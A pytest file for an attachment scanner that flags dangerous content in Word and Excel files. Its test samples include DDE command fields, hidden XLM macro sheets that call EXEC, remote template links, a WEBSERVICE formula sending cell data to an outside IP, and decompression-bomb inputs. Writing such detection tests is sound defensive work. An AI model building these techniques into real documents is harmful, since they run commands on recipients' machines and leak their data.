"""Open XML documents: type, macros, fields, links, objects."""

import pytest

from attachguard import Policy, Scanner
from attachguard.formats.office._office import opc as _opc
from attachguard.part import Part
from attachguard.testkit.openxml import EXCEL, RELATIONSHIPS
from tests import HANG
from tests.fixtures import ooxml as fixtures
from tests.fixtures.ooxml import (
    COMPOUND,
    EXCEL_MACRO,
    SAMPLES,
    W,
    excel,
    field,
    package,
    relationships,
    word,
)
from tests.fixtures.zip import PROGRAM, Member, archive, deflate


def details(report, code):
    return [finding.detail for finding in report.findings if finding.code == code]


_KIND = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    "override",
    [
        f'<Override PartName="/word/document.xml" ContentType="{_KIND}"/>',
        f'<Override ContentType="{_KIND}" PartName="/word/document.xml"/>',
        f"<Override PartName='/word/document.xml' ContentType='{_KIND}'/>",
        f'<Override  PartName = "/word/document.xml" ContentType=" {_KIND.upper()} "></Override>',
        f'<Override PartName="/word/&#100;ocument.xml" ContentType="{_KIND}"/>',
        f'<!-- a > b --><Override PartName="/word/document.xml" ContentType="{_KIND}" />',
        f'<x:Override xmlns:x="urn:a" PartName="/word/document.xml" ContentType="{_KIND}"/>',
        f'<Override PartName="/word/document.xml" ContentType="{_KIND}"/>'
        + '<Default Extension="a" ContentType="b"/>' * 6000,
    ],
)
def test_content_types_say_the_same_however_they_are_written(override):
    types = (
        f'<?xml version="1.0"?><Types xmlns="urn:t"><Default Extension="XML" ContentType="text/XML"/>{override}</Types>'
    )
    part = Part("a.docx", archive(Member("[Content_Types].xml", types.encode())), role="attachment")
    part.load()
    read = _opc.read_package(part)
    assert (read.media_type("word/document.xml"), read.media_type("a.xml")) == (_KIND.lower(), "text/xml")


@pytest.mark.parametrize(
    "sample", ["plain/brief.docx", "plain/tabelle.xlsx", "lookalike/brief.docx", "lookalike/vorlage.docx"]
)
def test_harmless_documents_give_no_finding(scan, sample):
    """Plain links, words in the text and a template on the reader's own disk are nothing."""
    assert scan(SAMPLES[sample](), sample.rpartition("/")[2]).findings == ()


@pytest.mark.parametrize(("kind", "type_id"), sorted(_opc.MAIN_TYPES.items()))
def test_the_main_parts_content_type_decides(scan, kind, type_id):
    """Whatever the file, the part and its folder are called."""
    data = package("some/where.bin", kind, {"some/where.bin": "<x/>", "word/document.xml": "<x/>"})
    assert scan(data, "brief.docx").parts[0].type.id == type_id


def test_the_type_survives_what_office_reads_over(scan):
    """Part names in other case, entities, single quotes, a prefix, a missing relationship, UTF-16."""
    types = "<ct:Types><ct:Override ContentType='application/vnd.ms-word.document.macroEnabled.main&#43;xml' PartName=\"/Word/Document.XML\"/></ct:Types>"
    assert (
        scan(archive(Member("[CONTENT_TYPES].XML", types.encode()), Member("word/document.xml", b"<x/>")), "a")
        .parts[0]
        .type.id
        == "docm"
    )
    wide = b"\xff\xfe" + types.encode("utf-16-le")
    assert (
        scan(archive(Member("[Content_Types].xml", wide), Member("word/document.xml", b"<x/>")), "a").parts[0].type.id
        == "docm"
    )
    assert (
        scan(archive(Member("_rels/.rels", b"<x/>"), Member("ppt/slides/slide1.xml", b"<x/>")), "a").parts[0].type.id
        == "pptx"
    )


@pytest.mark.parametrize(
    "runs",
    [("DDE cmd x",), (" DDE", "AUTO cmd x"), ("D", "D", "E cmd x"), ("&#68;DE cmd x",), ("<![CDATA[DDE cmd x]]>",)],
)
def test_dde_fields_are_found_however_they_are_split(scan, runs):
    """Over runs, in entities, in CDATA."""
    found = details(scan(word(field(*runs)), "a.docx"), "active-content")
    assert len(found) == 1
    assert found[0].startswith(("DDE field: DDE cmd x", "DDE field: DDEAUTO cmd x"))


def test_dde_fields_outside_of_the_body_count(scan):
    """In headers, comments, simple fields and inside other fields."""
    header = f"<w:hdr {W}><w:p><w:fldSimple w:instr='DDE cmd x'/></w:p></w:hdr>"
    assert details(scan(word(parts={"word/header1.xml": header}), "a.docx"), "active-content")
    nested = (
        '<w:fldChar w:fldCharType="begin"/><w:instrText>IF 1=1 </w:instrText>'
        + field("DDEAUTO cmd")
        + '<w:fldChar w:fldCharType="end"/>'
    )
    assert details(scan(word(nested), "a.docx"), "active-content") == ["DDE field: DDEAUTO cmd"]


def test_dde_links_of_workbooks_are_found_in_both_forms(scan):
    """Element or record."""
    for sample in ("dde/tabelle.xlsx", "dde/tabelle.xlsb"):
        assert details(scan(SAMPLES[sample](), "a.xlsx"), "active-content") == ["DDE link: cmd|/c calc"]


def test_macro_sheets_are_found_by_relationship_type_or_root(scan):
    """With what hides them and what they call."""
    expected = ["XLM: auto-exec, suspicious (EXEC), 1 macro sheet, very hidden"]
    assert details(scan(SAMPLES["xlm/tabelle.xlsm"](), "a.xlsm"), "macro-content") == expected
    assert details(scan(fixtures.macro_sheet(target="worksheets/x.xml"), "a.xlsx"), "macro-content") == expected
    binary = package(
        "xl/workbook.bin", fixtures.EXCEL_BINARY, {"xl/workbook.bin": b"\x83\x01\x00", "xl/m.bin": b"\x81\x01\x00"},
        {"xl/m.bin": "application/vnd.ms-excel.macrosheet"},
    )  # fmt: skip
    assert details(scan(binary, "a.xlsb"), "macro-content") == ["XLM: 1 macro sheet"]
    assert not details(scan(excel(kind=EXCEL_MACRO), "a.xlsm"), "macro-content")


def test_a_vba_project_is_a_child_under_any_name(scan):
    """The relationship makes it one, not its name."""
    report = scan(SAMPLES["renamed-macros/brief.docm"](), "a.docm")
    assert [(part.name, part.type.id) for part in report.parts if part.role == "embedded"] == [
        ("word/media/bild1.jpg", "cfb")
    ]


def test_objects_and_files_inside_are_told_apart(scan):
    """By relationship; both become children."""
    report = scan(SAMPLES["object/brief.docx"](), "a.docx")
    assert details(report, "embedded-object") == ["OLE object: oleobject1.bin (Package)"]
    assert details(report, "embedded-file") == ["embedded document: tabelle.xlsx (Package)"]
    assert {part.type.id for part in report.parts} >= {"docx", "cfb", "xlsx"}


@pytest.mark.parametrize(
    ("kind", "target", "words"),
    [
        ("attachedTemplate", "http://example.org/x.dotm", "attached template: http://example.org/x.dotm"),
        ("attachedTemplate", "\\\\srv\\x.dotm", "attached template: \\\\srv\\x.dotm"),
        ("oleObject", "file:///C:\\x.doc", "linked OLE object: file:///C:\\x.doc"),
        ("image", "file://srv/x.png", "linked picture: file://srv/x.png"),
        ("frame", "http://example.org/", "frame: http://example.org/"),
        ("subDocument", "teil.docx", "subdocument: teil.docx"),
        ("hyperlink", "http://example.org/", None),
        ("image", "file:///C:/bild.png", None),
        ("attachedTemplate", "Normal.dotm", None),
    ],
)
def test_external_relationships_say_what_is_fetched(scan, kind, target, words):
    """Links to click on and paths on the reader's disk are none."""
    report = scan(word(links=(("rId9", kind, target, "External"),)), "a.docx")
    assert details(report, "external-reference") == ([words] if words else [])


def test_an_angle_bracket_in_a_target_hides_nothing(scan):
    """It is legal inside quotes."""
    report = scan(word(links=(("rId9", "frame", "http://example.org/>x", "External"),)), "a.docx")
    assert details(report, "external-reference") == ["frame: http://example.org/>x"]


def test_fields_that_fetch_from_elsewhere_are_references(scan):
    """With a place outside, not with a file beside."""
    report = scan(word(field('INCLUDETEXT "https://example.org/x.docx"') + field("INCLUDEPICTURE bild.png")), "a.docx")
    assert details(report, "external-reference") == ["INCLUDETEXT field: https://example.org/x.docx"]


def test_connections_callbacks_actions_and_add_ins_are_found(scan):
    """Each by its element."""
    connections = '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://example.org/q"/></connection></connections>'
    assert details(scan(excel(parts={"xl/connections.xml": connections}), "a.xlsx"), "external-reference") == [
        "web query, refreshed on opening: http://example.org/q"
    ]
    ribbon = '<customUI xmlns="x" onLoad="Start"><ribbon/></customUI>'
    assert details(scan(excel(parts={"customUI/customUI.xml": ribbon}), "a.xlsx"), "active-content") == [
        "ribbon callback: onLoad=Start"
    ]
    slide = '<p:sld xmlns:p="p"><a:hlinkClick r:id="" action="ppaction://program?file=x"/></p:sld>'
    assert details(scan(word(parts={"ppt/slides/slide1.xml": slide}), "a"), "active-content") == [
        "PowerPoint action: starts a program ?file=x"
    ]
    add_in = '<we:webextension xmlns:we="w"><we:reference id="wa1" storeType="OMEX"/></we:webextension>'
    assert details(scan(word(parts={"word/we1.xml": add_in}), "a"), "active-content") == [
        "Office add-in: wa1 from OMEX"
    ]


def test_activex_and_alternative_content_are_found(scan):
    """A control by its relationship; a chunk is opened even where it looks like XML."""
    report = scan(
        word(links=(("rId4", "control", "activeX/activeX1.xml"),), parts={"word/activeX/activeX1.xml": "<ocx/>"}),
        "a.docx",
    )
    assert details(report, "active-content") == ["ActiveX control: activex1.xml"]
    report = scan(SAMPLES["altchunk/brief.docx"](), "a.docx")
    assert details(report, "embedded-file") == ["altChunk: inhalt.xml is taken into the document on opening"]
    assert report.parts[-1].type.id == "html"


def test_a_package_signature_marks_the_document(scan):
    """An empty origin without a signature does not."""
    assert scan(SAMPLES["signed/brief.docx"](), "a.docx").parts[0].signed
    assert not scan(word(links=(("rId1", "digital-signature/origin", "/x.sigs"),)), "a.docx").parts[0].signed


def test_xml_goes_on_as_two_layers_and_all_else_as_children(scan):
    """Links and macro sheets apart from the rest. What is called XML and is not is a child, too; a program posing as printer settings is found."""
    printer = {
        "xl/printerSettings/p1.bin": "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"
    }
    report = scan(
        excel(
            parts={"xl/x.xml": PROGRAM, "xl/printerSettings/p1.bin": PROGRAM, "xl/media/a.png": b"\x89PNG\r\n\x1a\n"},
            types=printer,
        ),
        "a.xlsx",
    )
    assert [part.type.id for part in report.parts if part.role == "layer"] == ["xml", "docxml"]
    assert sorted((part.name, part.type.id) for part in report.parts if part.role == "embedded") == [
        ("xl/media/a.png", "png"),
        ("xl/printerSettings/p1.bin", "pe"),
        ("xl/x.xml", "pe"),
    ]
    quiet = scan(excel(parts={"xl/printerSettings/p1.bin": bytes([7, 1, 200]) * 50}, types=printer), "a.xlsx")
    assert [part.role for part in quiet.parts] == ["attachment", "layer", "layer", "layer"]
    assert quiet.findings == ()


def test_a_bomb_in_xml_is_reported_as_one():
    """Before its bytes are held."""
    from attachguard.limits import Limits

    data = word(parts={"word/gross.xml": b"<x>" + bytes(6 << 20)})
    report = Scanner(Policy.load("audit"), limits=Limits(ratio_floor=1 << 20, ratio=10, bomb_bytes=4 << 20)).scan(
        data, name="a.docx", kind="file"
    )
    assert details(report, "decompression-bomb")


def test_a_damaged_xml_member_is_reported(scan):
    """What could be read of it is searched all the same."""
    data = word(field("DDE cmd") + "<w:p/>" * 4000)
    packed = deflate(b"<w:document>" + field("DDE cmd").encode() + bytes(range(256)) * 60)
    members = [
        Member("word/header1.xml", b"", packed=packed[:-30], size=20000),
        Member("[Content_Types].xml", b"<Types/>"),
        Member("_rels/.rels", b"<x/>"),
    ]
    report = scan(archive(*members), "a.docx")
    assert details(report, "malformed-file")
    assert details(scan(data, "a.docx"), "active-content")


@pytest.mark.parametrize(
    "unit",
    [
        b'<Relationship a="', b"<Relationship a='x' ", b'<Override "', b'<w:fldSimple instr="', b"<w:instrText ", b"<w:instrText>DDE", b"<!-- ",
        b"<w:instrText>DDE<!--", b"<w:instrText>" + b" " * 4000 + b"xDDE</w:instrText>", b'<o:OLEObject ProgID="', b"<a><!-",
    ],
)  # fmt: skip
def test_crafted_xml_takes_linear_time(scan, unit):
    """Half a megabyte of openings without an end."""
    import time

    text = b"<w:document>" + unit * (500_000 // len(unit))
    names = ("word/_rels/document.xml.rels", "[Content_Types].xml", "word/header1.xml", "word/vbaProject.bin")
    data = archive(*(Member(name, text) for name in names), Member("word/embeddings/a.bin", b"x"))
    start = time.perf_counter()
    scan(data, "a.docx")
    assert time.perf_counter() - start < HANG


def test_drawings_in_xml_are_content_of_their_own(scan):
    """A picture in SVG may hold a script; it is not mixed into the text."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    report = scan(word(parts={"word/media/a.svg": svg}, types={"word/media/a.svg": "image/svg+xml"}), "a.docx")
    assert [part.type.id for part in report.parts if part.role == "embedded"] == ["svg"]


def test_two_readings_of_a_package_are_reported(scan):
    """Names that differ in case, main parts of two kinds."""
    assert details(scan(word(parts={"Word/Document.xml": "<x/>"}), "a.docx"), "archive-ambiguous")
    two = relationships(("rId1", "officeDocument", "word/document.xml"), ("rId2", "officeDocument", "xl/workbook.xml"))
    report = scan(
        word(parts={"_rels/.rels": two, "xl/workbook.xml": "<x/>"}, types={"xl/workbook.xml": EXCEL}), "a.docx"
    )
    assert details(report, "polyglot-file") == ["OOXML: main parts of several kinds: docx, xlsx"]


def test_relationship_targets_are_resolved_from_their_owner():
    """Relative to the part that owns the relationships, `..` and leading slash included."""
    assert _opc.resolve("word/_rels/document.xml.rels", "media/a.png") == "word/media/a.png"
    assert _opc.resolve("xl/worksheets/_rels/sheet1.xml.rels", "../embeddings/O.bin") == "xl/embeddings/o.bin"
    assert _opc.resolve("", "/word/Document.xml") == "word/document.xml"
    assert _opc.resolve("_rels/.rels", "../../../x") == "x"


def test_an_object_without_relationship_is_still_there(scan):
    """It lies in the folder of embeddings."""
    report = scan(word(parts={"word/embeddings/oleObject7.bin": COMPOUND}), "a.docx")
    assert details(report, "embedded-object") == ["OLE object: oleobject7.bin"]


def test_linked_workbooks_are_references(scan):
    """Their path is relative more often than not."""
    rels = relationships(("rId1", f"{RELATIONSHIPS}externalLinkPath", "Mappe2.xlsx", "External"))
    report = scan(excel(parts={"xl/externalLinks/_rels/externalLink1.xml.rels": rels}), "a.xlsx")
    assert details(report, "external-reference") == ["linked workbook: Mappe2.xlsx"]


def test_a_cell_that_fetches_is_a_reference_and_one_that_calculates_is_none(scan):
    def sheet(formula):
        text = f'<worksheet {fixtures.S}><sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
        return fixtures.excel(parts={"xl/worksheets/sheet2.xml": text})

    report = scan(sheet('_xlfn.WEBSERVICE("http://203.0.113.7/"&amp;A1)'), "a.xlsx")
    assert details(report, "external-reference") == ['spreadsheet function WEBSERVICE: "http://203.0.113.7/"&A1)']
    report = scan(sheet('_xlfn.IMAGE("http://203.0.113.7/a.png")'), "a.xlsx")
    assert details(report, "external-reference") == ['spreadsheet function IMAGE: "http://203.0.113.7/a.png")']
    assert details(scan(sheet("SUM(A1:A3)"), "a.xlsx"), "external-reference") == []


def test_the_page_behind_a_film_is_a_reference(scan):
    film = '<w:p><wp15:webVideoPr xmlns:wp15="x" embeddedHtml="&lt;iframe src=&quot;https://203.0.113.7&quot;&gt;" h="1"/></w:p>'
    assert details(scan(fixtures.word(film), "a.docx"), "external-reference") == [
        'web video: <iframe src="https://203.0.113.7">',
        "HTML frame: https://203.0.113.7",
    ]


def test_macros_of_another_office_are_macros(scan):
    assert details(scan(fixtures.excel(parts={"xl/JDEData.bin": b"JDE" + bytes(40)}), "a.xlsx"), "macro-content") == [
        "WPS JavaScript: macros of WPS Office in JDEData.bin"
    ]
